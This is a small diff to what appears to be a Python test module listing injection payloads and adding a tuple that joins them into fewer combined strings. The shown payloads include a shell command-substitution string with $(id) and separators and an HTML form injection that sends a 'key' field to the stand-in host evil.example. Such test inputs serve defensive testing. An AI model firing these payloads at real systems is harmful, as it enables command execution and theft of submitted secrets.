@@ -18,3 +18,6 @@ PAYLOADS: Final = (
     "`'\"$(id);| & \\ \x1b[31m",
     "<form action=//evil.example><input name=key><button formaction=//evil.example>",
 )
+
+TOGETHER: Final = tuple(" ".join(PAYLOADS[start::4]) for start in range(4))
+"""The same in fewer texts, for what is slow to ask."""
